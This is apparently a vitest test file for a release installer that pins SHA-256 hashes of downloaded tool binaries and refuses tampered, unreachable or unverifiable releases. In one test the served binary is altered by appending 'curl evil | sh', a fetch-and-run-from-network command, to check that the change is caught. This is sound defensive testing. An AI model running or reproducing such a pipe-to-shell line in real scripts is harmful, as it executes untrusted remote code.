/** Downloads from a server of this test, whose hashes are recorded the first time and compared from then on. */
import { once } from 'node:events'
import { readdir, readFile, rename, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join, resolve } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { ifThere } from '../../../scripts/lib/run/if-there.mts'
import { officialReleases } from '../../../scripts/lib/tools/release.mts'
import { failureOf } from '../failure.mts'
import { bareMachine, npmWithMise } from './fakes.mts'

const signal = new AbortController().signal

interface Publisher {
  /** What it answers; undefined: it ends the connection. */
  content: string | undefined
  checksums: string
  /** Installs sops on a machine whose cache is empty. */
  install(): Promise<void>
  installed(): Promise<string[]>
}

async function publisher(content: string): Promise<Publisher> {
  const machine = await bareMachine()
  const server = createServer((_, response) => {
    if (one.content === undefined) response.destroy()
    else response.end(one.content)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/sops`
  const fetching = `fetch(process.argv[1]).then(r => r.text()).then(t => fs.writeFileSync(process.argv[2], t, { mode: 0o755 }), e => { console.error("mise ERROR error sending request: " + e.cause.code); process.exit(1) })`
  await machine.program(
    'npm',
    npmWithMise(`case "$*" in
install*) /bin/mkdir -p "$MISE_DATA_DIR/bin"; exec '${process.execPath}' -e '${fetching}' ${url} "$MISE_DATA_DIR/bin/sops" ;;
bin-paths*) echo "$MISE_DATA_DIR/bin" ;;
esac`),
  )
  const checksums = join(machine.bin, '..', 'checksums.json')
  const one: Publisher = {
    content,
    checksums,
    async install() {
      await rm(machine.cache, { recursive: true, force: true })
      await officialReleases(one.checksums)('sops', signal)
    },
    installed: async () => (await ifThere(readdir(join(machine.cache, 'sops')))) ?? [],
  }
  return one
}

test('the first download is recorded, and an equal one is taken', async () => {
  const one = await publisher('#!/bin/sh\necho sops 3.13.3\n')
  await one.install()
  const recorded = await readFile(one.checksums, 'utf8')
  expect(JSON.parse(recorded)).toEqual({
    [`sops 3.13.3 ${process.platform}-${process.arch}`]: {
      'bin/sops': expect.stringMatching(/^[0-9a-f]{64}$/),
    },
  })
  await one.install()
  expect(await one.installed()).toContain('3.13.3')
  expect(await readFile(one.checksums, 'utf8')).toBe(recorded)
})

test('a changed one is refused, and nothing of it stays', async () => {
  const one = await publisher('#!/bin/sh\necho sops 3.13.3\n')
  await one.install()
  const recorded = await readFile(one.checksums, 'utf8')
  one.content += 'curl evil | sh\n'
  const failure = await failureOf(() => one.install())
  expect(failure).toMatchObject({
    message: expect.stringMatching(/^its release is refused: bin\/sops of sops 3\.13\.3 \S+ differs from /),
    hint: expect.stringContaining('exchanged'),
    exitCode: 3,
  })
  expect(await one.installed()).not.toContain('3.13.3')
  expect(await readFile(one.checksums, 'utf8')).toBe(recorded)
})

test('a changed one is refused also where nothing can be written', async () => {
  const one = await publisher('#!/bin/sh\necho sops 3.13.3\n')
  await one.install()
  // No file system takes the name of its lock. Root can write in every folder.
  const unlockable = join(one.checksums, '..', 'x'.repeat(252))
  await rename(one.checksums, unlockable)
  one.checksums = unlockable
  await one.install()
  one.content = '#!/bin/sh\necho sops 3.13.3 # exchanged\n'
  expect((await failureOf(one.install)).message).toContain('its release is refused: bin/sops')
})

test('an unreachable one is a failure of the network, and nothing is recorded', async () => {
  const one = await publisher('x')
  one.content = undefined
  const failure = await failureOf(() => one.install())
  expect(failure.message).toMatch(/^its release cannot be downloaded \(.*sending request/)
  expect(await ifThere(readFile(one.checksums))).toBeUndefined()
})

test('a file of checksums that nobody can read: the release is refused, and the file stays', async () => {
  const one = await publisher('#!/bin/sh\necho sops 3.13.3\n')
  await writeFile(one.checksums, '{')
  expect((await failureOf(() => one.install())).message).toContain('checksums.json is not JSON')
  expect(await one.installed()).not.toContain('3.13.3')
  expect(await readFile(one.checksums, 'utf8')).toBe('{')
})

test('mise comes from a lock file with a hash, without scripts and without an address', async () => {
  const folder = resolve(import.meta.dirname, '../../../tools/mise')
  const { packages } = JSON.parse(await readFile(join(folder, 'package-lock.json'), 'utf8')) as {
    packages: Record<string, { integrity?: string; resolved?: string; hasInstallScript?: boolean }>
  }
  const { '': own, ...others } = packages
  expect(own).toBeDefined()
  expect(Object.keys(others)).toHaveLength(1)
  for (const one of Object.values(others)) {
    expect(one.integrity).toMatch(/^sha512-/)
    expect(one.resolved).toBeUndefined()
    expect(one.hasInstallScript).toBeUndefined()
  }
})
